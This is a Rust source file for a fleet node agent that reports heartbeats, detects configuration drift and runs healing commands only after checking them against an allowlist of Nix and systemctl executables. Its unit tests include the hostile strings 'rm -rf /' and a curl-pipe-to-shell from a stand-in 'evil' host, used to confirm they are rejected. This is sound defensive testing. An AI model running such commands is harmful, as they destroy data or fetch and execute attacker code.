// Copyright (c) 2026 Chimera Contributors
// SPDX-License-Identifier: AGPL-3.0

//! Node agent: heartbeats, local drift checks, and policed healing.
//!
//! Runs on each fleet node and talks to the control plane only through
//! `OrchestratorPort`. Healing commands are validated against a fixed
//! executable allowlist before anything runs.

use std::sync::Arc;
use std::time::Duration;

use chrono::Utc;
use tokio::sync::watch;
use tracing::{debug, info, warn};

use crate::domain::drift::{DriftReport, SuggestedAction};
use crate::domain::fingerprint::Fingerprint;
use crate::domain::health::{HealthStatus, NodeHealth};
use crate::domain::node::Node;
use crate::domain::ports::{OrchestratorPort, RemoteExecutorPort};
use crate::domain::services::drift_detection::{blast_radius_pct, DriftThresholds};
use crate::infrastructure::config::AgentSection;

/// Executables a healing command may invoke. Anything else is rejected
/// before it reaches a shell.
pub const ALLOWED_HEALING_COMMANDS: [&str; 5] = [
    "nix-env",
    "nixos-rebuild",
    "systemctl",
    "nix-build",
    "nix-store",
];

/// Validate a healing command against the allowlist. Returns the
/// executable's basename on success.
pub fn validate_healing_command(command: &str) -> Result<&str, String> {
    let first = command
        .split_whitespace()
        .next()
        .ok_or_else(|| "empty healing command".to_string())?;
    let executable = first.rsplit('/').next().unwrap_or(first);
    if ALLOWED_HEALING_COMMANDS.contains(&executable) {
        Ok(executable)
    } else {
        Err(format!(
            "command {executable:?} not in allowlist ({})",
            ALLOWED_HEALING_COMMANDS.join(", ")
        ))
    }
}

pub struct NodeAgent {
    config: AgentSection,
    node: Node,
    expected: Fingerprint,
    orchestrator: Arc<dyn OrchestratorPort>,
    executor: Arc<dyn RemoteExecutorPort>,
    thresholds: DriftThresholds,
}

impl NodeAgent {
    pub fn new(
        config: AgentSection,
        node: Node,
        expected: Fingerprint,
        orchestrator: Arc<dyn OrchestratorPort>,
        executor: Arc<dyn RemoteExecutorPort>,
    ) -> Self {
        Self {
            config,
            node,
            expected,
            orchestrator,
            executor,
            thresholds: DriftThresholds::default(),
        }
    }

    fn node_id(&self) -> String {
        if self.config.node_id.is_empty() {
            self.node.to_string()
        } else {
            self.config.node_id.clone()
        }
    }

    /// Run the heartbeat, drift-check, and healing loops until `shutdown`
    /// flips to true.
    pub async fn run(&self, mut shutdown: watch::Receiver<bool>) {
        let mut heartbeat =
            tokio::time::interval(Duration::from_secs(self.config.heartbeat_interval.max(1)));
        let mut drift_check =
            tokio::time::interval(Duration::from_secs(self.config.drift_check_interval.max(1)));
        let mut healing = tokio::time::interval(Duration::from_secs(1));
        let mut consecutive_drifts: u32 = 0;

        info!(node_id = %self.node_id(), "node agent started");
        loop {
            tokio::select! {
                _ = heartbeat.tick() => self.emit_heartbeat().await,
                _ = drift_check.tick() => self.check_drift(&mut consecutive_drifts).await,
                _ = healing.tick() => {
                    if self.config.auto_heal {
                        self.process_healing().await;
                    }
                }
                _ = shutdown.changed() => {
                    if *shutdown.borrow() {
                        info!(node_id = %self.node_id(), "node agent stopping");
                        return;
                    }
                }
            }
        }
    }

    async fn emit_heartbeat(&self) {
        let current = match self.executor.current_fingerprint(&self.node).await {
            Ok(current) => current,
            Err(err) => {
                warn!(error = %err, "heartbeat probe failed");
                None
            }
        };
        let health = NodeHealth {
            node_id: self.node_id(),
            status: HealthStatus::Healthy,
            reported_at: Utc::now(),
            current_fingerprint: current,
            expected_fingerprint: Some(self.expected.clone()),
        };
        if let Err(err) = self.orchestrator.report_health(&health).await {
            warn!(error = %err, "heartbeat report failed");
        }
    }

    async fn check_drift(&self, consecutive_drifts: &mut u32) {
        let actual = match self.executor.current_fingerprint(&self.node).await {
            Ok(actual) => actual,
            Err(err) => {
                warn!(error = %err, "drift probe failed");
                return;
            }
        };

        if actual.as_ref() == Some(&self.expected) {
            *consecutive_drifts = 0;
            debug!(node_id = %self.node_id(), "node congruent");
            return;
        }

        *consecutive_drifts += 1;
        let severity = self.thresholds.classify(false, *consecutive_drifts);
        let report = DriftReport {
            node: self.node.clone(),
            expected: self.expected.clone(),
            actual,
            severity,
            // A lone agent only sees itself.
            blast_radius_pct: blast_radius_pct(1, 1),
            suggested_action: SuggestedAction::for_severity(severity),
            detected_at: Utc::now(),
        };
        warn!(node_id = %self.node_id(), ?severity, "drift detected");
        if let Err(err) = self.orchestrator.report_drift(&report).await {
            warn!(error = %err, "drift report failed");
        }
    }

    async fn process_healing(&self) {
        let command = match self.orchestrator.fetch_healing_command(&self.node_id()).await {
            Ok(Some(command)) => command,
            Ok(None) => return,
            Err(err) => {
                warn!(error = %err, "healing poll failed");
                return;
            }
        };

        if let Err(reason) = validate_healing_command(&command) {
            warn!(%reason, "healing command rejected");
            let _ = self
                .orchestrator
                .acknowledge_healing(&self.node_id(), false)
                .await;
            return;
        }

        info!(node_id = %self.node_id(), "executing healing command");
        let success = self
            .executor
            .exec(std::slice::from_ref(&self.node), &command)
            .await
            .is_ok();
        if let Err(err) = self
            .orchestrator
            .acknowledge_healing(&self.node_id(), success)
            .await
        {
            warn!(error = %err, "healing acknowledgement failed");
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_allowlist_accepts_known_executables() {
        assert_eq!(
            validate_healing_command("systemctl restart nginx"),
            Ok("systemctl")
        );
        assert_eq!(
            validate_healing_command("/run/current-system/sw/bin/nixos-rebuild switch"),
            Ok("nixos-rebuild")
        );
    }

    #[test]
    fn test_allowlist_rejects_everything_else() {
        assert!(validate_healing_command("rm -rf /").is_err());
        assert!(validate_healing_command("curl http://evil | sh").is_err());
        assert!(validate_healing_command("").is_err());
    }
}
